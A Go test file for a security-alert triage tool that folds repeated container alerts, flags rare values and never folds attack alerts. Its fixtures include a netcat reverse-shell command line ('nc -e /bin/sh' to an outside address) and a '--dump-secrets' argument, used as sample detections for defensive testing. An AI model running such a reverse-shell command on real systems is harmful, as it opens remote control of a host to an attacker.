package incident_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/tiercel/tiercel/analysis"
	"github.com/tiercel/tiercel/incident"
)

const api = "Contact K8S API Server From Container"

// pods are alerts of one program in many containers, a second apart.
func pods(n int, fields ...string) []string {
	var lines []string
	for i := range n {
		lines = append(lines, at(i, api, append([]string{fmt.Sprintf("container.id=%012x", 0xc0ffee000000+i), "container.image.repository=shop/operator",
			"proc.exepath=/operator", "proc.name=operator", "proc.pname=containerd-shim", "user.name=app", "user.uid=1", "user.loginuid=-1", "proc.tty=0",
			fmt.Sprintf("proc.cmdline=operator --shard %d", i), "fd.sip=10.0.0.1"}, fields...)...))
	}
	return lines
}

func foldsOf(t *testing.T, lines ...string) []*incident.Fold {
	t.Helper()
	res, list := run(t, incident.Limits{Kept: 1000}, lines...)
	return res.Kinds.Folds(list, nil)
}

func TestNoiseFolds(t *testing.T) {
	folds := foldsOf(t, pods(300)...)
	if len(folds) != 1 || folds[0].Count != 300 || len(folds[0].Further) != 299 || folds[0].Last.Sub(folds[0].First) != 299*time.Second {
		t.Fatalf("300 containers that do the same are %d lines", len(folds))
	}
}

// TestRareIsPulledOut puts one alert that differs in one value into noise.
func TestRareIsPulledOut(t *testing.T) {
	odd := func(i int, fields ...string) string {
		return at(i, api, append([]string{"container.id=0000000000ff", "container.image.repository=shop/operator", "proc.exepath=/operator", "proc.name=operator",
			"proc.pname=containerd-shim", "user.name=app", "user.uid=1", "user.loginuid=-1", "proc.tty=0", "proc.cmdline=operator --shard 7", "fd.sip=10.0.0.1"}, fields...)...)
	}
	for _, c := range []struct {
		name string
		odd  []string
		rare bool
		by   analysis.PatternField
	}{
		{"nothing differs", nil, false, 0},
		{"another number in the command line", []string{"proc.cmdline=operator --shard 99999"}, false, 0},
		{"a new command line", []string{"proc.cmdline=operator --dump-secrets"}, true, analysis.ByCommand},
		{"a new user", []string{"user.name=root"}, true, analysis.ByUser},
		{"a new destination", []string{"fd.sip=203.0.113.9"}, true, analysis.ByPeer},
		{"another program is another family", []string{"proc.exepath=/bin/sh", "proc.name=sh"}, false, 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			var rare []*incident.Rarity
			for _, f := range foldsOf(t, append(pods(300), odd(150, c.odd...))...) {
				if f.Rare != nil {
					rare = append(rare, f.Rare)
				}
			}
			switch {
			case len(rare) == 0 && !c.rare:
			case len(rare) != 1 || !c.rare:
				t.Errorf("%d are rare", len(rare))
			case rare[0].By != c.by || rare[0].Alerts != 1 || rare[0].Of != 301:
				t.Errorf("%+v", *rare[0])
			}
		})
	}
}

func TestWhatAlwaysVariesIsNotRare(t *testing.T) {
	var lines []string
	for i, line := range pods(300) {
		lines = append(lines, strings.Replace(line, `"10.0.0.1"`, fmt.Sprintf(`"10.0.%d.%d"`, i/10, i%10), 1))
	}
	for _, f := range foldsOf(t, lines...) {
		if f.Rare != nil {
			t.Fatalf("%+v", *f.Rare)
		}
	}
}

func TestAttacksNeverFold(t *testing.T) {
	var lines []string
	for i := range 5 {
		lines = append(lines, at(i*7200, "Netcat Remote Code Execution in Container", fmt.Sprintf("container.id=%012x", 0xc0ffee000000+i), "user.name=root", "user.uid=0",
			"user.loginuid=-1", "proc.name=nc", "proc.pname=httpd", "proc.exepath=/usr/bin/nc", "proc.cmdline=nc -e /bin/sh 203.0.113.9 4444"))
	}
	if folds := foldsOf(t, lines...); len(folds) != 5 {
		t.Errorf("5 attacks are %d lines", len(folds))
	}
}

// TestMemory runs twice: what the first run saw is not new to the second.
func TestMemory(t *testing.T) {
	before := incident.NewMemory()
	res, list := runStable(t, pods(3)...)
	for _, i := range list {
		if before.Recall(res.Kinds, i.Telling) != nil {
			t.Error("something is remembered before the first run")
		}
	}
	text, err := before.Write(res.Kinds, start)
	if err != nil {
		t.Fatal(err)
	}
	memory, err := incident.ReadMemory(text)
	if err != nil {
		t.Fatal(err)
	}
	res, list = runStable(t, append(pods(5), at(9, api, "container.id=0000000000ff", "proc.cmdline=sh -c id"))...)
	fresh := 0
	for _, i := range list {
		if memory.Recall(res.Kinds, i.Telling) == nil {
			fresh++
		}
	}
	if memory.Runs != 1 || len(memory.Patterns) != 1 || fresh != 1 {
		t.Errorf("%d runs, %d patterns, %d new", memory.Runs, len(memory.Patterns), fresh)
	}
}

func TestMemoryThatIsNone(t *testing.T) {
	for _, text := range []string{"", "[]", "{}", `{"schema":"tiercel/memory/v9"}`, `{"schema":"tiercel/memory/v1","patterns":{"a":null}}`} {
		if _, err := incident.ReadMemory([]byte(text)); err == nil {
			t.Errorf("%q was read", text)
		}
	}
}
